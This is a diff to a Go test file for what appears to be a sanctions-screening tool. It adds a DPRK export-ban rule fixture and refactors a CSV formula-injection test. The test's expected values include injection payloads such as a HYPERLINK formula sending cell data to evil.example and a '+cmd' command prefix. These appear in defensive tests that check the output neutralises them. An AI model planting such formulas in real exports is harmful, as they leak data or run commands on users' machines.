@@ -36,6 +36,15 @@ func fixedInfo() RunInfo {
 		PolicySHA256: "9f2c4e1d0b7a6c5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e",
 		Inputs:       []string{"shipments.csv", "-"},
 		Flags:        []string{"--fail-on=block", "--format=json"},
+		Rules: []RuleDoc{{
+			ID: "dprk.goods.export_ban", Title: "Goods supplied to the DPRK are banned", Severity: record.Block,
+			Description: "A goods line falls in a UN sectoral export ban and the movement is to the DPRK.",
+			Citation:    "UN DPRK sectoral export bans (see the category citation)",
+			Resources: []string{
+				"UNSCR 2397 (2017) paras 7 and 14 <https://undocs.org/S/RES/2397(2017)>",
+				"UNSCR 1718 (2006) para 8(a) <https://undocs.org/S/RES/1718(2006)>",
+			},
+		}},
 	}
 }
 
@@ -214,7 +223,8 @@ func TestJSONEnvelope(t *testing.T) {
 		t.Fatalf("%d results, want %d", len(env.Results), len(ds))
 	}
 	for i := range ds {
-		a, _ := json.Marshal(ds[i])
+		// The envelope writes each decision with its context categories marked.
+		a, _ := json.Marshal(withContext(&ds[i]))
 		b, _ := json.Marshal(env.Results[i])
 		if !bytes.Equal(a, b) {
 			t.Errorf("result %d round trip:\n got %s\nwant %s", i, b, a)
@@ -277,30 +287,31 @@ func TestCSVInjection(t *testing.T) {
 	if len(rows) != len(ds)+1 {
 		t.Fatalf("%d csv rows, want header + %d", len(rows), len(ds))
 	}
+	header := resultHeader()
 	for i, row := range rows {
-		if len(row) != len(csvHeader) {
-			t.Errorf("row %d has %d cells, want %d", i, len(row), len(csvHeader))
+		if len(row) != len(header) {
+			t.Errorf("row %d has %d cells, want %d", i, len(row), len(header))
 		}
 		for j, cell := range row {
 			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
-				t.Errorf("row %d column %s = %q starts with a formula character", i, csvHeader[j], cell)
+				t.Errorf("row %d column %s = %q starts with a formula character", i, header[j], cell)
 			}
 		}
 	}
 	inj := rows[5]
 	for col, want := range map[int]string{
-		0:  `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
-		7:  "'-2+3 TRADING",
-		11: "'@SUM(1+1)",
-		13: "'\tinjected",
-		14: "own.watchlist",
+		rcID:             `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		rcTopMatchedName: "'-2+3 TRADING",
+		rcCitations:      "'@SUM(1+1)",
+		rcError:          "'\tinjected",
+		rcSuppressed:     "own.watchlist",
 	} {
 		if inj[col] != want {
-			t.Errorf("injection row %s = %q, want %q", csvHeader[col], inj[col], want)
+			t.Errorf("injection row %s = %q, want %q", header[col], inj[col], want)
 		}
 	}
-	if !strings.HasPrefix(inj[12], "'+cmd") {
-		t.Errorf("injection row messages = %q, want a neutralised +cmd", inj[12])
+	if !strings.HasPrefix(inj[rcMessages], "'+cmd") {
+		t.Errorf("injection row messages = %q, want a neutralised +cmd", inj[rcMessages])
 	}
 }
 
